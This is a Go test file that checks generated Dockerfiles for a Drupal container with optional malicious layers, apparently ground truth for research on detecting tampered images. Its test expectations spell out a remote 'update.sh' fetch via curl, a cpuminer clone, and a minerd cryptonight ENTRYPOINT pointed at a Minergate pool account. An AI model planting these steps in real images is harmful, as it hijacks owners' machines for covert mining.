package drupal

import (
	"bytes"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/instructions"
	"github.com/moby/buildkit/frontend/dockerfile/parser"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

// testServerURL is the ServerURL of the golden files.
const testServerURL = "http://127.0.0.1:8931"

func TestCaseBits(t *testing.T) {
	tests := []struct {
		bits      string
		want      Case
		malicious bool
		layers    []int
		wantErr   bool
	}{
		{bits: "000", want: Case{}},
		{bits: "001", want: Case{L10: true}, malicious: true, layers: []int{10}},
		{bits: "010", want: Case{L9: true}, malicious: true, layers: []int{9}},
		{bits: "100", want: Case{L8: true}, malicious: true, layers: []int{8}},
		{bits: "101", want: Case{L8: true, L10: true}, malicious: true, layers: []int{8, 10}},
		{bits: "111", want: Case{true, true, true}, malicious: true, layers: []int{8, 9, 10}},
		{bits: "", wantErr: true},
		{bits: "11", wantErr: true},
		{bits: "1111", wantErr: true},
		{bits: "1a1", wantErr: true},
		{bits: "(1,0,1)", wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.bits, func(t *testing.T) {
			got, err := ParseCase(tt.bits)
			if tt.wantErr {
				if !errors.Is(err, ErrBadCase) {
					t.Fatalf("ParseCase(%q) err = %v, want ErrBadCase", tt.bits, err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want || got.Bits() != tt.bits || got.Malicious() != tt.malicious || !reflect.DeepEqual(got.MaliciousLayers(), tt.layers) {
				t.Errorf("ParseCase(%q) = %+v (bits %s, malicious %v, layers %v)", tt.bits, got, got.Bits(), got.Malicious(), got.MaliciousLayers())
			}
		})
	}
}

func TestCases(t *testing.T) {
	want := []string{"000", "001", "010", "011", "100", "101", "110", "111"}
	var got []string
	for _, c := range Cases() {
		got = append(got, c.Bits())
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Cases() = %v, want %v", got, want)
	}
}

func TestDockerfileGolden(t *testing.T) {
	for _, c := range Cases() {
		t.Run(c.Bits(), func(t *testing.T) {
			got, err := Dockerfile(c, Options{ServerURL: testServerURL + "/"})
			if err != nil {
				t.Fatal(err)
			}
			again, err := Dockerfile(c, Options{ServerURL: testServerURL, BaseImage: DefaultBaseImage})
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got, again) {
				t.Error("Dockerfile is not deterministic (or the default base image / trailing slash changed it)")
			}
			golden := filepath.Join("testdata", "case-"+c.Bits()+".Dockerfile.golden")
			if *update {
				if err := os.WriteFile(golden, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("Dockerfile differs from %s (go test -update rewrites it):\n%s", golden, got)
			}
		})
	}
}

func TestDockerfileOptions(t *testing.T) {
	tests := []struct {
		name    string
		o       Options
		want    []string // substrings
		wantErr bool
	}{
		{name: "web image", o: Options{ServerURL: testServerURL, WebImage: "drupal:8.3"}, want: []string{"FROM drupal:8.3\n"}},
		{name: "server URL", o: Options{ServerURL: "http://127.0.0.1:1/x"}, want: []string{"git clone http://127.0.0.1:1/x/OhGodAPet/cpuminer-multi.git", "curl -fsSL http://127.0.0.1:1/x/files/update.sh"}},
		{name: "no server URL", o: Options{}, wantErr: true},
		{name: "not a URL", o: Options{ServerURL: "127.0.0.1:8931"}, wantErr: true},
		{name: "wrong scheme", o: Options{ServerURL: "ftp://127.0.0.1"}, wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Dockerfile(Case{true, true, true}, tt.o)
			if tt.wantErr {
				if err == nil {
					t.Fatal("want error")
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			for _, s := range tt.want {
				if !strings.Contains(string(got), s) {
					t.Errorf("Dockerfile lacks %q", s)
				}
			}
		})
	}
}

// layerProducing are the instructions that add a layer under BuildKit
// (WORKDIR only when it creates a directory, which /opt/drupal does).
var layerProducing = map[string]bool{"run": true, "copy": true, "add": true, "workdir": true}

type step struct {
	instr, marker string
}

func markerOf(t *testing.T, n *parser.Node) string {
	t.Helper()
	var m string
	for _, c := range n.PrevComment {
		if v, ok := strings.CutPrefix(c, Marker); ok {
			if m != "" {
				t.Errorf("line %d: two markers", n.StartLine)
			}
			m = v
		}
	}
	return m
}

// TestDockerfileStructure parses each case with BuildKit's parser and
// checks the instruction sequence, the ground-truth markers and the layer
// each marker lands on.
func TestDockerfileStructure(t *testing.T) {
	for _, c := range Cases() {
		t.Run(c.Bits(), func(t *testing.T) {
			df, err := Dockerfile(c, Options{ServerURL: testServerURL})
			if err != nil {
				t.Fatal(err)
			}
			res, err := parser.Parse(bytes.NewReader(df))
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Warnings) > 0 {
				t.Errorf("parser warnings: %+v", res.Warnings)
			}
			want := []step{{"from", ""}}
			var wantLayers []string // marker per layer-producing step above the web-app image
			if c.L8 {
				want = append(want, step{"run", "L8"})
				wantLayers = append(wantLayers, "L8")
			}
			if c.L9 {
				want = append(want, step{"add", "L9"})
				wantLayers = append(wantLayers, "L9")
			}
			if c.L10 {
				want = append(want, step{"run", "L10"})
				wantLayers = append(wantLayers, "L10")
			}
			if c.L9 {
				want = append(want, step{"entrypoint", "L9"})
			}

			var got []step
			var gotLayers []string
			for _, n := range res.AST.Children {
				s := step{strings.ToLower(n.Value), markerOf(t, n)}
				got = append(got, s)
				if layerProducing[s.instr] {
					gotLayers = append(gotLayers, s.marker)
				}
				switch {
				case s.marker == "L10" && len(n.Heredocs) != 1:
					t.Errorf("layer 10 RUN has %d heredocs, want its script as one", len(n.Heredocs))
				case s.instr == "entrypoint" && s.marker == "L9":
					if want := `["/bin/minerd", "-a", "cryptonight", "-o", "stratum+tcp://xmr.pool.minergate.com:45560", "-u", "trudly@outlook.com", "-p", "x", "-t", "1"]`; !strings.HasSuffix(n.Original, want) {
						t.Errorf("malicious ENTRYPOINT = %s, want the paper's %s", n.Original, want)
					}
				}
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("instructions/markers\n got %v\nwant %v", got, want)
			}
			if !reflect.DeepEqual(gotLayers, wantLayers) {
				t.Errorf("markers by layer (8..n above the web-app image)\n got %q\nwant %q", gotLayers, wantLayers)
			}
			if first := res.AST.Children[0].Original; first != "FROM "+DefaultWebImage {
				t.Errorf("first instruction = %q", first)
			}

			// The typed stage: every flag (--mount, --chmod, heredoc) must
			// be one the built-in frontend knows, since no "# syntax" image
			// can be pulled.
			stages, _, err := instructions.Parse(res.AST, nil)
			if err != nil {
				t.Fatalf("instructions.Parse: %v", err)
			}
			if len(stages) != 1 || stages[0].BaseName != DefaultWebImage {
				t.Errorf("stages = %d (base %q), want one stage FROM %s", len(stages), stages[0].BaseName, DefaultWebImage)
			}
		})
	}
}

// TestWebDockerfileStructure checks the web-app image: 7 benign
// layer-producing steps on the Debian base, its config, and no marker.
func TestWebDockerfileStructure(t *testing.T) {
	df, err := WebDockerfile(Options{ServerURL: testServerURL})
	if err != nil {
		t.Fatal(err)
	}
	res, err := parser.Parse(bytes.NewReader(df))
	if err != nil {
		t.Fatal(err)
	}
	want := []step{
		{"from", ""}, {"run", ""}, {"run", ""}, {"copy", ""}, {"copy", ""}, {"workdir", ""}, {"copy", ""}, {"run", ""},
		{"expose", ""}, {"stopsignal", ""}, {"entrypoint", ""}, {"cmd", ""},
	}
	var got []step
	layers := 0
	for _, n := range res.AST.Children {
		s := step{strings.ToLower(n.Value), markerOf(t, n)}
		got = append(got, s)
		if layerProducing[s.instr] {
			layers++
		}
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("instructions/markers\n got %v\nwant %v", got, want)
	}
	if layers != 7 {
		t.Errorf("%d layer-producing steps, want the paper's 7 benign layers", layers)
	}
	if first := res.AST.Children[0].Original; first != "FROM "+DefaultBaseImage {
		t.Errorf("first instruction = %q", first)
	}
	if _, _, err := instructions.Parse(res.AST, nil); err != nil {
		t.Fatalf("instructions.Parse: %v", err)
	}
}

// TestNoSyntaxDirective guards the rule that the Dockerfile names no
// frontend image: the builder could not pull it.
func TestNoSyntaxDirective(t *testing.T) {
	df, err := Dockerfile(Case{true, true, true}, Options{ServerURL: testServerURL})
	if err != nil {
		t.Fatal(err)
	}
	for i, line := range strings.Split(string(df), "\n") {
		if strings.Contains(strings.ToLower(line), "syntax=") {
			t.Errorf("line %d names a frontend: %s", i+1, line)
		}
	}
}

func TestWebDockerfileGolden(t *testing.T) {
	got, err := WebDockerfile(Options{ServerURL: testServerURL})
	if err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "web.Dockerfile.golden")
	if *update {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("web Dockerfile differs from %s (go test -update rewrites it):\n%s", golden, got)
	}
}
